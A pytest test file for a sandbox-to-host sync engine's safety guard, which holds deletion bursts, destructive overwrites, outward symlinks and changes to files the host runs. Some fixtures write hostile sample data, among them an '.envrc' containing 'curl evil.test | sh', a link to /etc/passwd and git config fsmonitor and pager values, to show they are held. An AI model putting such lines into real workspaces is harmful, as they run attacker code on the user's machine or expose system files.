"""The sync engine's guard, rule by rule, on two real trees: each scenario trips exactly one
of its rules (count, share of the files, every file, most of the bytes, a slow burst, a
deletion joining a held burst, a destructive overwrite, a path the host runs), and its
neighbour one step under the threshold does not.

No watcher: the test calls ``sync()`` itself, so each pass is one batch. Time is the
engine's clock, set by the test (``Clock``), so windows and grace periods are crossed
exactly, never waited for."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from sandkit.sync import engine as engine_module
from sandkit.sync.engine import BURST_WINDOW, HOLD_BURST, HOLD_PROTECTED, Report, SyncEngine
from sandkit.sync.journal import Journal
from sandkit.sync.protect import DEFAULTS, Protected


class Clock:
    """The engine's monotonic clock, moved by the test."""

    def __init__(self) -> None:
        self.now = 1000.0

    def monotonic(self) -> float:
        return self.now


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    c = Clock()
    monkeypatch.setattr(engine_module, "time", SimpleNamespace(monotonic=c.monotonic))
    return c


class Workspace:
    """A host workspace synced once into a share; the test then acts as the sandbox."""

    def __init__(self, root: Path, files: dict[str, bytes], **engine: Any) -> None:
        self.host, self.share, self.state = root / "host", root / "share", root / "state"
        self.host.mkdir(parents=True)
        self.share.mkdir()
        for rel, data in files.items():
            (self.host / rel).parent.mkdir(parents=True, exist_ok=True)
            (self.host / rel).write_bytes(data)
        self.files = dict(files)
        self.engine = SyncEngine(self.host, self.share, self.state, **engine)
        self.events: list[tuple[str, dict[str, Any]]] = []
        self.engine.listeners.append(lambda e, d: self.events.append((e, d)))
        self.engine.sync()
        assert self.on_host() == files == self.in_share()

    def on_host(self) -> dict[str, bytes]:
        return _files(self.host)

    def in_share(self) -> dict[str, bytes]:
        return _files(self.share)

    def rm(self, *rels: str) -> Report:
        """The sandbox deletes files; the engine sees them in one batch."""
        for rel in rels:
            (self.share / rel).unlink()
        return self.engine.sync()

    def write(self, contents: dict[str, bytes]) -> Report:
        for rel, data in contents.items():
            (self.share / rel).parent.mkdir(parents=True, exist_ok=True)
            (self.share / rel).write_bytes(data)
        return self.engine.sync()

    def trashed(self) -> dict[str, bytes]:
        journal = Journal(self.state / "sync.db")
        try:
            return {t[2]: Path(t[3]).read_bytes() for t in journal.trash() if Path(t[3]).is_file()}
        finally:
            journal.close()


def _files(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def names(count: int, start: int = 0) -> list[str]:
    return [f"f{i:03}.txt" for i in range(start, start + count)]


@pytest.fixture
def make(tmp_path: Path, clock: Clock) -> Iterator[Any]:
    made: list[Workspace] = []

    def build(files: dict[str, bytes], **engine: Any) -> Workspace:
        ws = Workspace(tmp_path / f"ws{len(made)}", files, **engine)
        made.append(ws)
        return ws

    yield build
    for ws in made:
        ws.engine.close()


def even(count: int, size: int = 10) -> dict[str, bytes]:
    """``count`` files of ``size`` bytes each (distinct contents)."""
    return {name: name.encode().ljust(size, b"x")[:size] for name in names(count)}


def assert_held(ws: Workspace, rels: list[str]) -> None:
    assert ws.engine.pending == dict.fromkeys(rels, HOLD_BURST)
    assert ws.engine.status == "paused"
    for rel in rels:
        assert ws.on_host()[rel] == ws.files[rel]  # the host keeps its version
    assert ("deletions-held" in [e for e, _ in ws.events]) is True


def assert_applied(ws: Workspace, rels: list[str]) -> None:
    assert ws.engine.pending == {}
    host = ws.on_host()
    assert not any(rel in host for rel in rels)
    trashed = ws.trashed()
    assert all(trashed[rel] == ws.files[rel] for rel in rels)  # nothing lost


# -- one rule each ---------------------------------------------------------------------------
# delete_fraction=1.0 turns the share-of-files rule off (more files than there are cannot go),
# a large delete_limit the count rule; equal sizes keep deletions far from half the bytes.
@pytest.mark.parametrize(("deleted", "held"), [(5, False), (6, True)])
def test_count_rule_alone(make: Any, deleted: int, held: bool) -> None:
    ws = make(even(40), delete_limit=5, delete_fraction=1.0, grace=0)
    ws.rm(*names(deleted))
    (assert_held if held else assert_applied)(ws, names(deleted))


@pytest.mark.parametrize(
    ("total", "deleted", "held"), [(40, 12, False), (40, 13, True), (20, 9, False), (20, 10, True)]
)
def test_share_of_files_rule_alone(make: Any, total: int, deleted: int, held: bool) -> None:
    """More than 30 % of the files, and at least 10 of them (12 of 40 is 30 %: not more;
    9 of 20 is 45 %, but fewer than 10; 10 of 20 is exactly half the bytes: not more)."""
    ws = make(even(total), delete_limit=1000, delete_fraction=0.3, grace=0)
    ws.rm(*names(deleted))
    (assert_held if held else assert_applied)(ws, names(deleted))


@pytest.mark.parametrize(("deleted", "held"), [(2, False), (3, True)])
def test_every_file_rule_alone(make: Any, deleted: int, held: bool) -> None:
    """Empty files (no bytes to lose) in a workspace too small for the other rules: taking
    every one of them is still held."""
    ws = make(dict.fromkeys(names(3), b""), delete_limit=1000, delete_fraction=1.0, grace=0)
    ws.rm(*names(deleted))
    (assert_held if held else assert_applied)(ws, names(deleted))


@pytest.mark.parametrize(("big", "held"), [(390, False), (391, True)])
def test_most_of_the_bytes_rule_alone(make: Any, big: int, held: bool) -> None:
    """One file that is half the workspace's bytes may go; one byte more than half may not."""
    files = {**even(39, 10), "big.bin": b"b" * big}  # 390 bytes beside it
    ws = make(files, delete_limit=1000, delete_fraction=1.0, grace=0)
    ws.rm("big.bin")
    (assert_held if held else assert_applied)(ws, ["big.bin"])


def test_default_thresholds(make: Any) -> None:
    """As shipped: 50 deletions at once pass (in 200 files: a quarter), 51 are held."""
    ws = make(even(200), grace=0)
    ws.rm(*names(50))
    assert_applied(ws, names(50))
    more = make(even(200), grace=0)
    more.rm(*names(51))
    assert_held(more, names(51))


# -- bursts over time ------------------------------------------------------------------------
@pytest.mark.parametrize(("later", "held"), [(BURST_WINDOW, True), (BURST_WINDOW + 0.5, False)])
def test_a_slow_burst_is_counted_across_batches_within_the_window(
    make: Any, clock: Clock, later: float, held: bool
) -> None:
    """6 deletions, then 5 more: each batch is under the count (10), together they are
    over it, as long as the second comes within the burst window of the first."""
    ws = make(even(40), delete_limit=10, delete_fraction=1.0, grace=0)
    ws.rm(*names(6))
    assert_applied(ws, names(6))
    clock.now += later
    ws.rm(*names(5, start=6))
    if held:
        # The whole burst is held, and what its first batch took is back on the host.
        assert_held(ws, names(11))
        assert ws.in_share().keys().isdisjoint(names(11))
    else:
        assert_applied(ws, names(11))


def test_a_deletion_joins_a_burst_that_is_held(make: Any) -> None:
    ws = make(even(40), delete_limit=5, delete_fraction=1.0, grace=0)
    ws.rm(*names(6))
    assert_held(ws, names(6))
    report = ws.rm("f039.txt")  # alone it trips nothing
    assert_held(ws, [*names(6), "f039.txt"])
    assert sorted(report.held) == [*names(6), "f039.txt"]  # the burst, and the one joining it
    ws.rm("f038.txt", "f037.txt")
    assert_held(ws, [*names(6), "f037.txt", "f038.txt", "f039.txt"])
    assert ws.engine.reject() == 9
    assert ws.in_share() == ws.files == ws.on_host()


def test_deletions_wait_out_the_grace_period_before_reaching_the_host(
    make: Any, clock: Clock
) -> None:
    """With the default grace (1 s) a lone deletion is applied once no other deletion
    has come for a second: not before, and then without another batch."""
    ws = make(even(40))
    ws.rm("f000.txt")
    assert "f000.txt" in ws.on_host() and ws.engine.status == "syncing"
    clock.now += 0.5
    ws.rm("f001.txt")  # a second deletion restarts the wait
    clock.now += 0.9
    assert ws.engine.tick().applied == 0
    assert {"f000.txt", "f001.txt"} <= ws.on_host().keys()
    clock.now += 0.1
    assert ws.engine.tick().applied == 2
    assert_applied(ws, ["f000.txt", "f001.txt"])
    assert ws.engine.status == "in sync"


def test_a_deletion_undone_in_the_sandbox_during_the_grace_is_forgotten(
    make: Any, clock: Clock
) -> None:
    ws = make(even(40))
    ws.rm("f000.txt")
    (ws.share / "f000.txt").write_bytes(ws.files["f000.txt"])  # put back before the grace ends
    ws.engine.sync()
    clock.now += 5
    ws.engine.tick()
    assert ws.on_host() == ws.files and ws.engine.deferred == {}


# -- overwrites --------------------------------------------------------------------------------
@pytest.mark.parametrize(("size", "destructive"), [(25, False), (24, True), (0, True)])
def test_overwrites_that_leave_under_a_quarter_of_a_file_count_as_deletions(
    make: Any, size: int, destructive: bool
) -> None:
    ws = make(even(40, size=100), delete_limit=5, delete_fraction=1.0, grace=0)
    ws.write(dict.fromkeys(names(6), b"w" * size))
    if destructive:
        assert_held(ws, names(6))
    else:  # ordinary edits: through at once, the host's versions in the trash
        assert all(ws.on_host()[n] == b"w" * size for n in names(6))
        assert ws.engine.pending == {}
        assert all(ws.trashed()[n] == ws.files[n] for n in names(6))


def test_a_file_replaced_by_a_folder_or_a_link_is_a_destructive_overwrite(make: Any) -> None:
    ws = make(even(40, size=100), delete_limit=1, delete_fraction=1.0, grace=0)
    (ws.share / "f000.txt").unlink()
    (ws.share / "f000.txt").mkdir()
    (ws.share / "f001.txt").unlink()
    (ws.share / "f001.txt").symlink_to("f002.txt")
    ws.engine.sync()
    assert_held(ws, ["f000.txt", "f001.txt"])


def test_growing_or_new_or_once_empty_files_are_never_destructive(make: Any) -> None:
    files = {**even(40, size=100), "empty.txt": b""}
    ws = make(files, delete_limit=0, delete_fraction=1.0, grace=0)
    ws.write({"f000.txt": b"g" * 500, "new.txt": b"", "empty.txt": b"now something"})
    assert ws.engine.pending == {}
    host = ws.on_host()
    assert (host["f000.txt"], host["new.txt"], host["empty.txt"]) == (
        b"g" * 500,
        b"",
        b"now something",
    )


def test_one_emptied_file_reaches_the_host_and_its_old_content_the_trash(make: Any) -> None:
    ws = make(even(40, size=100), grace=0)
    ws.write({"f000.txt": b""})
    assert ws.on_host()["f000.txt"] == b""
    assert ws.trashed()["f000.txt"] == ws.files["f000.txt"]


# -- a person's answer -------------------------------------------------------------------------
def test_a_held_burst_rejected_comes_back_into_the_sandbox(make: Any) -> None:
    ws = make(even(40), delete_limit=5, delete_fraction=1.0, grace=0)
    ws.rm(*names(6))
    assert ws.engine.reject() == 6
    assert ws.in_share() == ws.files == ws.on_host()
    assert ws.engine.pending == {} and ws.engine.status == "in sync"


def test_a_held_burst_approved_reaches_the_host_through_the_trash(make: Any) -> None:
    ws = make(even(40), delete_limit=5, delete_fraction=1.0, grace=0)
    ws.rm(*names(6))
    assert ws.engine.approve() == 6
    assert_applied(ws, names(6))
    assert ws.on_host() == ws.in_share()


def test_a_held_folder_holds_what_arrives_under_it_and_approval_takes_it_whole(
    make: Any,
) -> None:
    files = {f"d/{n}": b"x" for n in names(8)} | even(40)
    ws = make(files, delete_limit=5, delete_fraction=1.0, grace=0)
    for rel in names(8):
        (ws.share / "d" / rel).unlink()
    (ws.share / "d").rmdir()
    ws.engine.sync()
    assert ws.engine.pending.keys() >= {"d"} and all(ws.on_host()[f"d/{n}"] for n in names(8))
    report = ws.write({"d/late.txt": b"late"})  # under a held folder: held with it
    assert "d/late.txt" in report.held and "d/late.txt" not in ws.on_host()
    ws.engine.approve()
    assert not (ws.host / "d" / names(1)[0]).exists()
    assert ws.on_host() == ws.in_share()


# -- paths the host runs -------------------------------------------------------------------------
def test_paths_the_host_runs_are_held_and_ordinary_ones_flow(make: Any) -> None:
    git = '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://example.test/r.git\n'
    ws = make(
        {**even(20), ".git/config": git.encode(), ".envrc": b"export A=1\n"},
        grace=0,
        protected=Protected(DEFAULTS),
    )
    report = ws.write(
        {
            ".envrc": b"curl evil.test | sh\n",
            ".vscode/tasks.json": b"{}",
            "src/ok.py": b"print(1)\n",
        }
    )
    assert ws.engine.pending == {".envrc": HOLD_PROTECTED, ".vscode/tasks.json": HOLD_PROTECTED}
    assert sorted(report.held) == [".envrc", ".vscode/tasks.json"]
    host = ws.on_host()
    assert host[".envrc"] == b"export A=1\n" and ".vscode/tasks.json" not in host
    assert host["src/ok.py"] == b"print(1)\n"
    assert (ws.host / ".vscode").is_dir()  # a folder runs nothing: what is in it is judged
    # .git/config: an ordinary change flows, one that runs a program is held.
    ws.engine.reject()
    ws.write({".git/config": (git + "[user]\n\tname = A\n").encode()})
    assert ws.engine.pending == {}
    assert b"name = A" in ws.on_host()[".git/config"]
    ws.write({".git/config": (git + "[core]\n\tfsmonitor = /tmp/x\n").encode()})
    assert ws.engine.pending == {".git/config": HOLD_PROTECTED}
    assert b"fsmonitor" not in ws.on_host()[".git/config"]
    ws.engine.reject()
    ws.write({".git/config": b"\xff\xfe not text"})  # unreadable: never judged harmless
    assert ws.engine.pending == {".git/config": HOLD_PROTECTED}


def test_deleting_a_path_the_host_runs_is_a_deletion_not_a_protected_change(make: Any) -> None:
    ws = make({**even(40), ".envrc": b"x"}, grace=0, protected=Protected(DEFAULTS))
    ws.rm(".envrc")
    assert ws.engine.pending == {}
    assert ".envrc" not in ws.on_host() and ws.trashed()[".envrc"] == b"x"


def test_a_conflict_on_a_path_the_host_runs_is_held(make: Any) -> None:
    ws = make({**even(20), ".envrc": b"old"}, grace=0, protected=Protected(DEFAULTS))
    (ws.host / ".envrc").write_bytes(b"host edit")
    ws.write({".envrc": b"sandbox edit"})
    assert ws.engine.pending == {".envrc": HOLD_PROTECTED}
    assert ws.on_host()[".envrc"] == b"host edit"
    assert not any("sandbox-conflict" in rel for rel in ws.on_host())


# -- what the rules count ---------------------------------------------------------------------
def test_a_workspace_of_one_empty_file_keeps_it(make: Any) -> None:
    ws = make({"only.txt": b""}, delete_limit=1000, delete_fraction=1.0, grace=0)
    ws.rm("only.txt")
    assert_held(ws, ["only.txt"])


def test_a_workspace_whose_only_byte_goes_is_held(make: Any) -> None:
    files = {"a": b"", "b": b"", "c": b"", "d": b"", "one": b"1"}
    ws = make(files, delete_limit=1000, delete_fraction=1.0, grace=0)
    ws.rm("one")
    assert_held(ws, ["one"])


def test_emptying_the_biggest_file_counts_its_bytes(make: Any) -> None:
    files = {**even(39, 10), "big.bin": b"b" * 391}
    ws = make(files, delete_limit=1000, delete_fraction=1.0, grace=0)
    ws.write({"big.bin": b""})
    assert_held(ws, ["big.bin"])


@pytest.mark.parametrize("size", [0, 10])
@pytest.mark.parametrize(("second", "held"), [(4, False), (5, True)])
def test_a_slow_burst_counts_files_not_bytes(make: Any, size: int, second: int, held: bool) -> None:
    """6 then 4 deletions are 10 (the limit), 6 then 5 are 11: whatever the files weigh."""
    ws = make(even(40, size), delete_limit=10, delete_fraction=1.0, grace=0)
    ws.rm(*names(6))
    ws.rm(*names(second, start=6))
    (assert_held if held else assert_applied)(ws, names(6 + second))


@pytest.mark.parametrize(("second", "held"), [(6, False), (7, True)])
def test_a_slow_burst_is_a_share_of_the_workspace_as_it_was(
    make: Any, second: int, held: bool
) -> None:
    """Against the 40 files there were, not the 34 left: 6 + 6 is 30 %, 6 + 7 more."""
    ws = make(even(40), delete_limit=1000, delete_fraction=0.3, grace=0)
    ws.rm(*names(6))
    ws.rm(*names(second, start=6))
    (assert_held if held else assert_applied)(ws, names(6 + second))


@pytest.mark.parametrize(("second", "held"), [("f000.txt", False), ("big2.bin", True)])
def test_a_slow_burst_is_a_share_of_the_bytes_as_they_were(
    make: Any, second: str, held: bool
) -> None:
    """390 + 200 + 200 bytes: one 200-byte file, then a small one (210 of 790) pass; one
    200-byte file, then the other (400 of 790: more than half) are held."""
    files = {**even(39, 10), "big1.bin": b"1" * 200, "big2.bin": b"2" * 200}
    ws = make(files, delete_limit=1000, delete_fraction=1.0, grace=0)
    ws.rm("big1.bin")
    assert_applied(ws, ["big1.bin"])
    ws.rm(second)
    (assert_held if held else assert_applied)(ws, ["big1.bin", second])


def test_what_a_held_burst_tells_its_listeners(make: Any) -> None:
    ws = make(even(60), delete_limit=20, delete_fraction=1.0, grace=0)
    ws.rm(*names(25))
    held = [d for e, d in ws.events if e == "deletions-held"]
    assert held == [{"count": 25, "paths": names(20)}]  # the first 20 paths, in order


def test_the_trash_says_why_each_version_is_there(make: Any) -> None:
    ws = make(even(40), grace=0)
    ws.rm("f000.txt")
    ws.write({"f001.txt": b""})
    journal = Journal(ws.state / "sync.db")
    try:
        reasons = {t[2]: t[4] for t in journal.trash()}
    finally:
        journal.close()
    assert reasons == {
        "f000.txt": "deleted in the sandbox",
        "f001.txt": "overwritten by the sandbox",
    }


# -- overwrites that wait -----------------------------------------------------------------------
@pytest.mark.parametrize(("before", "destructive"), [(b"", False), (b"1", True)])
def test_a_file_that_was_empty_is_never_destroyed(
    make: Any, before: bytes, destructive: bool
) -> None:
    """Emptying a one-byte file destroys it; replacing an empty file with a folder does not."""
    ws = make({**even(40), "x": before}, delete_limit=0, delete_fraction=1.0, grace=0)
    if destructive:
        ws.write({"x": b""})
        assert_held(ws, ["x"])
    else:
        (ws.share / "x").unlink()
        (ws.share / "x").mkdir()
        ws.engine.sync()
        assert ws.engine.pending == {} and (ws.host / "x").is_dir()


def test_overwrites_released_together_when_one_was_deleted_meanwhile(
    make: Any, clock: Clock
) -> None:
    ws = make(even(40, size=100), delete_limit=1000, delete_fraction=1.0)
    ws.write({"f000.txt": b"", "f001.txt": b""})
    ws.rm("f000.txt")  # while both wait out the grace period
    clock.now += 5
    ws.engine.tick()
    host = ws.on_host()
    assert "f000.txt" not in host and host["f001.txt"] == b""
    assert ws.engine.deferred_writes == {} and ws.engine.status == "in sync"


def test_an_overwrite_swapped_for_an_outward_link_while_it_waits_is_not_made(
    make: Any, clock: Clock
) -> None:
    """The sandbox empties a file (held back for the grace period), then replaces it with a
    link out of the workspace: what is released is judged again, and the link refused."""
    ws = make(even(40, size=100))
    ws.write({"f000.txt": b""})
    (ws.share / "f000.txt").unlink()
    (ws.share / "f000.txt").symlink_to("/etc/passwd")
    clock.now += 5
    report = ws.engine.tick()
    assert not (ws.host / "f000.txt").is_symlink()
    assert ws.on_host()["f000.txt"] == ws.files["f000.txt"]
    assert report.refused == ["f000.txt"]
    assert ws.engine.refused == {"f000.txt": "/etc/passwd"}


# -- paths the host runs, more ----------------------------------------------------------------
def test_a_protected_file_under_an_approved_folder_waits_for_its_own_answer(make: Any) -> None:
    ws = make({**even(20), "d": b"a file"}, delete_limit=0, grace=0, protected=Protected(DEFAULTS))
    (ws.share / "d").unlink()
    (ws.share / "d").mkdir()  # the file becomes a folder: held
    ws.engine.sync()
    assert ws.engine.pending == {"d": HOLD_BURST}
    ws.write({"d/.envrc": b"curl evil.test | sh\n"})  # then a file the host runs, in it
    ws.engine.approve()  # the person said yes to the folder, having seen only the folder
    assert not (ws.host / "d" / ".envrc").exists()
    assert ws.engine.pending == {"d/.envrc": HOLD_PROTECTED}
    assert (ws.host / "d").is_dir()


def test_folders_where_the_host_runs_files_are_made_and_their_files_held(make: Any) -> None:
    ws = make(even(20), grace=0, protected=Protected(DEFAULTS))
    (ws.share / ".git" / "hooks" / "sub").mkdir(parents=True)
    ws.engine.sync()
    assert ws.engine.pending == {} and (ws.host / ".git" / "hooks" / "sub").is_dir()


def test_a_conflict_whose_copy_would_be_protected_is_held(make: Any) -> None:
    """The sandbox's side of a conflict is kept beside the host's under a new name; when
    that name is one the user protects, the conflict waits for a person too."""
    ws = make({**even(20), "Dockerfile": b"FROM a"}, grace=0, protected=Protected(["Dockerfile.*"]))
    (ws.host / "Dockerfile").write_bytes(b"FROM host")
    ws.write({"Dockerfile": b"FROM sandbox"})
    assert ws.engine.pending == {"Dockerfile": HOLD_PROTECTED}
    assert ws.on_host() == {**ws.files, "Dockerfile": b"FROM host"}


def test_a_protected_file_that_reads_like_a_harmless_git_config_is_still_held(make: Any) -> None:
    ws = make({**even(20), ".envrc": b""}, grace=0, protected=Protected(DEFAULTS))
    ws.write({".envrc": b"[user]\n\tname = A\n"})
    assert ws.engine.pending == {".envrc": HOLD_PROTECTED}


def test_git_config_changes_are_judged_against_the_hosts_config(make: Any) -> None:
    """The user's own fsmonitor stays the user's: the sandbox adding a name passes. A
    config the host does not have is judged whole."""
    own = b'[core]\n\tfsmonitor = /usr/bin/watchman-hook\n[remote "o"]\n\turl = x\n'
    ws = make({**even(20), ".git/config": own}, grace=0, protected=Protected(DEFAULTS))
    ws.write({".git/config": own + b"[user]\n\tname = A\n"})
    assert ws.engine.pending == {}
    assert ws.on_host()[".git/config"].endswith(b"name = A\n")
    fresh = make(even(20), grace=0, protected=Protected(DEFAULTS))
    fresh.write({"sub/.git/config": b"[core]\n\tbare = false\n"})
    assert fresh.engine.pending == {}
    assert fresh.on_host()["sub/.git/config"] == b"[core]\n\tbare = false\n"
    fresh.write({"other/.git/config": b"[core]\n\tpager = evil\n"})
    assert fresh.engine.pending == {"other/.git/config": HOLD_PROTECTED}


def test_a_folder_removed_whole_in_the_sandbox_goes_whole_to_the_trash(make: Any) -> None:
    """rm -rf of a folder: its files are trashed one by one, then the folder itself joins
    them in the same trash folder (which already exists by then)."""
    files = {**{f"d/e/{n}": n.encode() for n in names(3)}, **even(40)}
    ws = make(files, grace=0)
    for rel in names(3):
        (ws.share / "d" / "e" / rel).unlink()
    (ws.share / "d" / "e").rmdir()
    (ws.share / "d").rmdir()
    ws.engine.sync()
    assert not (ws.host / "d").exists()
    assert ws.engine.pending == {} and ws.on_host() == ws.in_share()
    journal = Journal(ws.state / "sync.db")
    try:
        stored = {t[2]: Path(t[3]) for t in journal.trash()}
    finally:
        journal.close()
    assert set(stored) == {"d", "d/e", *(f"d/e/{n}" for n in names(3))}
    assert sorted(p.name for p in (stored["d"] / "e").iterdir()) == names(3)
    assert all(stored[f"d/e/{n}"].read_bytes() == n.encode() for n in names(3))


def test_a_folder_replaced_by_a_file_loses_nothing(make: Any) -> None:
    """rm -rf d; echo > d in the sandbox: the folder's files (and what in it sync never
    tracked) reach the trash before the file takes its place."""
    files = {"d/a": b"precious a", "d/b": b"precious b", **even(40, 100)}
    ws = make(files, grace=0)
    (ws.host / "d" / "node_modules").mkdir()  # ignored: never synced, still the user's
    (ws.host / "d" / "node_modules" / "m.js").write_bytes(b"untracked")
    shutil.rmtree(ws.share / "d")
    ws.write({"d": b"now a file"})
    assert ws.engine.pending == {}
    assert (ws.host / "d").read_bytes() == b"now a file"
    trash = ws.trashed()
    assert (trash["d/a"], trash["d/b"]) == (b"precious a", b"precious b")
    journal = Journal(ws.state / "sync.db")
    try:
        folder = next(Path(t[3]) for t in journal.trash() if t[2] == "d")
    finally:
        journal.close()
    assert (folder / "node_modules" / "m.js").read_bytes() == b"untracked"


def test_a_folder_replaced_by_a_file_counts_everything_it_held(make: Any) -> None:
    files = {**{f"d/{n}": b"x" * 10 for n in names(3)}, **even(40)}
    ws = make(files, delete_limit=2, delete_fraction=1.0, grace=0)
    shutil.rmtree(ws.share / "d")
    (ws.share / "d").symlink_to("f000.txt")
    ws.engine.sync()
    assert ws.engine.pending == dict.fromkeys(["d", *(f"d/{n}" for n in names(3))], HOLD_BURST)
    assert ws.on_host() == ws.files


@pytest.mark.parametrize(("second", "held"), [(4, False), (5, True)])
def test_a_slow_burst_of_overwrites_is_counted_like_deletions(
    make: Any, second: int, held: bool
) -> None:
    ws = make(even(40, size=100), delete_limit=10, delete_fraction=1.0, grace=0)
    ws.write(dict.fromkeys(names(6), b""))
    assert ws.engine.pending == {} and ws.on_host()["f000.txt"] == b""
    ws.write(dict.fromkeys(names(second, start=6), b""))
    if held:  # and the first six are back on the host
        assert_held(ws, names(6 + second))
    else:
        assert all(ws.on_host()[n] == b"" for n in names(6 + second))


def test_overwrites_that_waited_are_applied_and_counted(make: Any, clock: Clock) -> None:
    ws = make(even(40, size=100), delete_limit=1000, delete_fraction=1.0)
    ws.write({"f000.txt": b"", "f001.txt": b"", "f002.txt": b""})
    (ws.share / "f000.txt").unlink()
    (ws.share / "f000.txt").symlink_to("../../outside")  # refused: the others still go
    clock.now += 5
    report = ws.engine.tick()
    assert report.applied == 2 and report.refused == ["f000.txt"]
    host = ws.on_host()
    assert (host["f000.txt"], host["f001.txt"], host["f002.txt"]) == (
        ws.files["f000.txt"],
        b"",
        b"",
    )


def test_an_overwrite_whose_host_folder_became_a_link_is_refused_not_written_through(
    make: Any, clock: Clock, tmp_path: Path
) -> None:
    """The user swaps a folder for a link while an overwrite from the sandbox waits: the
    write would land wherever the link leads, so it is refused, and the next one done."""
    outside = tmp_path / "outside"
    outside.mkdir()
    files = {"d/x": b"x" * 100, "e/y": b"y" * 100, **even(40, 100)}
    ws = make(files, delete_limit=1000, delete_fraction=1.0)
    ws.write({"d/x": b"", "e/y": b""})
    shutil.rmtree(ws.host / "d")
    (ws.host / "d").symlink_to(outside)
    clock.now += 5
    report = ws.engine.tick()
    assert list(outside.iterdir()) == []
    assert report.refused == ["d/x"] and report.applied == 1
    assert (ws.host / "e" / "y").read_bytes() == b""
    unsafe = [d for e, d in ws.events if e == "unsafe-path"]
    assert [d["path"] for d in unsafe] == ["d/x"]
    assert "'d' is not a directory (a link?)" in str(unsafe[0]["reason"])


# -- bringing back what a burst already took ---------------------------------------------------
def test_a_burst_brings_a_replaced_file_back_without_losing_what_came_after_it(
    make: Any,
) -> None:
    """The sandbox replaces file `b` by a folder and writes `b/a` in it (both reach the
    host); then a burst is held, which brings the host's `b` back. The folder and `b/a`
    are set aside in the trash, and the journal forgets `b/a`: the pass after approval
    must not read its absence on the host as a deletion (it once deleted it on both
    sides, with no copy anywhere)."""
    ws = make({"b": b"first b", "keep.txt": b"k" * 100}, grace=0)
    (ws.share / "b").unlink()
    ws.write({"b/a": b"written in the sandbox"})
    ws.engine.sync()  # the folder replacing a file waited out its grace; b/a follows it
    assert ws.on_host()["b/a"] == b"written in the sandbox"
    ws.rm("keep.txt")  # most of the workspace's bytes gone: a burst
    assert set(ws.engine.pending) >= {"b", "keep.txt"}
    assert ws.on_host() == {"b": b"first b", "keep.txt": b"k" * 100}  # as before the burst
    journal = Journal(ws.state / "sync.db")
    try:  # the folder `b` set aside whole, not dropped
        folders = [Path(t[3]) for t in journal.trash() if t[2] == "b" and Path(t[3]).is_dir()]
    finally:
        journal.close()
    assert [_files(f) for f in folders] == [{"a": b"written in the sandbox"}]
    # Stamped in time like every trash entry: `undo --last` takes the newest stamp.
    stamps = [t[1] for t in Journal(ws.state / "sync.db").trash() if t[2] == "b"]
    assert all(re.fullmatch(r"\d{8}T\d{12}Z(-\d+)?", stamp) for stamp in stamps), stamps
    ws.engine.approve()
    assert ws.on_host() == {"b/a": b"written in the sandbox"} == ws.in_share()


def test_a_path_changed_twice_comes_back_as_the_host_had_it_first(make: Any) -> None:
    """Two destructive overwrites of one file, then a burst: the host's first version is
    what comes back (the later one was the sandbox's, still in the sandbox)."""
    first = b"the host's own version " * 4
    ws = make({"notes.md": first, **even(3, size=1000)}, grace=0)
    ws.write({"notes.md": b"short"})  # each applied: a small part of the workspace
    ws.write({"notes.md": b"s"})
    assert [r[1] for r in ws.engine.recent] == ["notes.md", "notes.md"]
    ws.rm(*names(3))
    assert ws.on_host()["notes.md"] == first
    assert ws.in_share()["notes.md"] == b"s"
